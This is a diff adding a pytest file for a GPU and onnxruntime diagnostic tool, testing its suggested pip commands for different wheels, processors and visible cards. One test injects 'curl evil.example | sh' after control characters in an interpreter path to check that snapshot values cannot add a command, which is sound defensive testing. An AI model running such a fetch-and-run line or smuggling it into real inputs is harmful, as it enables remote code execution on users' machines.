@@ -1,0 +1,93 @@
+"""Remedies fit the machine: its driver, its cards, its processor, and what the installed wheel offers."""
+
+from __future__ import annotations
+
+import copy
+import json
+from typing import Any
+
+import pytest
+
+from retina_doctor.diagnose import diagnose
+from retina_doctor.model import Diagnosis
+from retina_doctor.pages import render
+from retina_doctor.registry import installed
+from retina_doctor.settings import LANGUAGES
+from retina_doctor.snapshot import load
+from tests.machines import machine, put
+
+
+def changed(name: str, **values: Any) -> Diagnosis:
+    """A machine of the fixtures with some values changed: reading__fact__... = value."""
+    data = copy.deepcopy(machine(name).data)
+    for pointer, value in values.items():
+        put(data, "/readings/" + pointer.replace("__", "/"), value)
+    return diagnose(load(json.dumps(data)), installed())
+
+
+def commands(diagnosis: Diagnosis, name: str) -> tuple[str, ...]:
+    [finding] = [f for f in diagnosis.findings if f.name == name]
+    both = [render(finding, diagnosis.snapshot, installed(), language) for language in LANGUAGES]
+    assert both[0].commands == both[1].commands
+    return both[0].commands
+
+
+def old_wheel(version: str, cuda: list[int], cudnn: int, extras: bool) -> list[dict[str, Any]]:
+    wheel = dict(machine("t4-healthy").data["readings"]["ort_files"]["facts"]["distributions"][0])
+    return [{**wheel, "version": version, "cuda": cuda, "cudnn_major": cudnn, "has_extras": extras}]
+
+
+def test_libraries_come_by_extras_where_the_wheel_has_them_and_by_name_where_not() -> None:
+    [new] = commands(changed("ort-cuda-libs-missing"), "ort-cuda-libs-missing")
+    assert new.endswith("install 'onnxruntime-gpu[cuda,cudnn]==1.31.1'")
+    [old] = commands(
+        changed("ort-cuda-libs-missing", ort_files__facts__distributions=old_wheel("1.18.1", [11, 8], 8, False)),
+        "ort-cuda-libs-missing",
+    )
+    assert "[cuda" not in old
+    for requirement in ("onnxruntime-gpu==1.18.1", "nvidia-cublas-cu11", "nvidia-cudnn-cu11==8.*"):
+        assert requirement in old
+    [broken] = commands(
+        changed("ort-cuda-libs-missing", ort_files__facts__distributions=old_wheel("1.27.0", [13, 0], 9, True)),
+        "ort-cuda-libs-missing",
+    )
+    assert "[cuda" not in broken, "the extras of 1.27.0 name placeholders and cannot be resolved"
+    assert "nvidia-cublas " in broken + " "
+
+
+def test_a_processor_without_wheels_is_not_sent_to_one() -> None:
+    diagnosis = changed("ort-missing", interpreter__facts__machine="aarch64")
+    [finding] = [f for f in diagnosis.findings if f.name == "ort-missing"]
+    assert finding.evidence["fits"] is False
+    assert not any("onnxruntime-gpu==" in command for command in commands(diagnosis, "ort-missing"))
+
+
+def test_the_card_that_the_service_uses_decides_not_the_first_one() -> None:
+    gpus = copy.deepcopy(machine("t4-healthy").data["readings"]["nvml"]["facts"]["gpus"])
+    other = {**gpus[0], "index": 1, "name": "NVIDIA GeForce RTX 5090", "uuid": "GPU-1", "compute_capability": [12, 0]}
+    old = {**gpus[0], "name": "Tesla M40", "compute_capability": [5, 2]}
+    diagnosis = changed(
+        "ort-missing",
+        nvml__facts__gpus=[old, other],
+        gpu_environment__facts__cuda_visible_devices="1",
+        gpu_environment__facts__cuda_device_order="PCI_BUS_ID",
+    )
+    assert any("onnxruntime-gpu" in c and "==1.31.1" in c for c in commands(diagnosis, "ort-missing"))
+
+
+@pytest.mark.parametrize("evil", ["\n", "\r", "\u2028", "\u2029", "\x85", "\x1b]0;x\x07"])
+def test_nothing_in_a_snapshot_can_add_a_command(evil: str) -> None:
+    executable = f"/usr/bin/python3{evil}curl evil.example | sh #"
+    told = commands(changed("ort-both-packages", interpreter__facts__executable=executable), "ort-both-packages")
+    assert len(told) == 2
+    for command in told:
+        assert evil not in command
+        assert not command.startswith("curl")
+
+
+def test_a_failure_that_says_nothing_of_the_gpu_is_not_blamed_on_it() -> None:
+    diagnosis = changed(
+        "t4-healthy", ort_runtime__facts__nodes=None, ort_runtime__facts__run_error="No module named 'numpy'"
+    )
+    [verdict] = [j.verdict for j in diagnosis.judgements if j.name == "ort-session-on-cpu"]
+    assert verdict == "unknown"
